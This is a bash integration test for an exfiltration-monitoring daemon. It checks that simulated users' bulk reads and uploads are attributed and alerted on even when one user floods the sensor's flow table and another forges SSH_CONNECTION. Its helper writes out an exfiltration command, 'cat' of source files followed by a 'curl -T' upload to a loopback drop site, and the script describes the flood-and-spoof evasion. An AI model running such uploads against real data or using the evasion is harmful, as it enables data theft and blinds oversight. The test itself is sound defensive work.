#!/bin/bash
# SPDX-License-Identifier: GPL-2.0-only
# Issue 11 A1: attribution is never lost. One process of alice's session sends a byte to
# 131,070 loopback address:port pairs (twice the flow map) and keeps them; then, in the
# same session, a bulk read of the sources and an upload, and the same in bob's session.
# Both sessions must raise bulk collection and exfiltration alerts, and the flood itself
# a sensor_integrity alert naming alice's session. Bob's forged SSH_CONNECTION (B13) must
# not come out as a trusted remote host.
. "$(dirname "$0")/../lib/itest.sh"

SRC=$T/src
mkdir -p "$SRC" "$T/work"
for i in 1 2 3; do head -c $((8 << 20)) /dev/urandom >"$SRC/customers-$i.csv"; done
chmod -R a+rX "$T"
chmod 1777 "$T/work"
ensure_user alice 1101
ensure_user bob 1102
python3 "$LIB/dropsite.py" --addr 127.0.0.93 --port 18093 >"$T/drop.out" 2>&1 &
itest_on_exit "kill $!"
wait_until 20 grep -q ready "$T/drop.out" || die "drop site"
cat >"$T/exfilmon.yaml" <<YAML
sources:
  paths: ["$SRC"]
egress:
  allow: ["127.0.0.1/32"]
detect:
  window: 10m
  bulk_read: 16MiB
  exfil: 4MiB
  lookback: 1h
$(itest_config_tail)
YAML
daemon_start "$T/exfilmon.yaml"

pull_and_upload() { # OUT: reads every source, uploads what it read
	echo "cat $SRC/*.csv >$1 && curl -sS -T $1 http://127.0.0.93:18093/up -o /dev/null"
}
echo "alice floods the flow map, then pulls and uploads in the same session"
in_session 1101 "$T/alice.info" bash -c "
	python3 $LIB/udp_flood.py --count 131070 --done $T/work/flooded --hold &
	flood=\$!
	# The flood either finishes or dies: wait for whichever comes first.
	while [ ! -e $T/work/flooded ] && kill -0 \$flood 2>/dev/null; do sleep 0.1; done
	[ -e $T/work/flooded ] || exit 1
	sleep 1
	$(pull_and_upload "$T/work/alice.bin")
	rc=\$?
	echo \$flood >$T/work/flood.pid
	exit \$rc" || die "alice workload"
echo "bob, another session, while the flood still holds its flows (and a forged SSH peer)"
# The forged variable is in the session's environment from its first process on, as in a
# cron job that sets it.
SSH_CONNECTION="203.0.113.9 50022 127.0.0.1 22" in_session 1102 "$T/bob.info" \
	bash -c "$(pull_and_upload "$T/work/bob.bin")" || die "bob workload"
sleep 1.5
kill "$(cat "$T/work/flood.pid")"
kill -TERM $DAEMON
wait $DAEMON
check "daemon exit status" "$?" 0

A=$(info_session "$T/alice.info"); B=$(info_session "$T/bob.info")
alerts() { python3 "$LIB/alerts.py" "$T/alerts.jsonl" "$@"; }
check "alice (flooding session): bulk collection" \
	"$(alerts count --rule bulk_collection_bytes --user alice --session "$A")" 1
check "alice (flooding session): exfiltration" \
	"$(alerts count --rule exfiltration --user alice --session "$A")" 1
check "bob (other session): bulk collection" \
	"$(alerts count --rule bulk_collection_bytes --user bob --session "$B")" 1
check "bob (other session): exfiltration to the drop site" \
	"$(alerts count --rule exfiltration --user bob --session "$B" --destination 127.0.0.93:18093)" 1
check "the flood is an integrity alert naming alice's session" \
	"$(alerts count --rule sensor_integrity --user alice --session "$A")" 1
check "no activity was left without a person" "$(grep -c '"unattributed' "$T/daemon.log")" 0
# Issue 11 B13: a session logind does not describe takes its peer from the environment,
# which any process can set: it must not come out as a trusted remote host.
check "a forged SSH_CONNECTION is marked unverified" "$(python3 -c "
import json
hosts={json.loads(l)['exfilmon']['remote_host'] for l in open('$T/alerts.jsonl')
       if json.loads(l)['exfilmon']['session_id']==$B}
print(','.join(sorted(hosts)))")" "unverified:203.0.113.9"
"$BUILD/exfilctl" verify --dir "$T/evidence" >/dev/null 2>&1
check "evidence verifies" "$?" 0
itest_finish
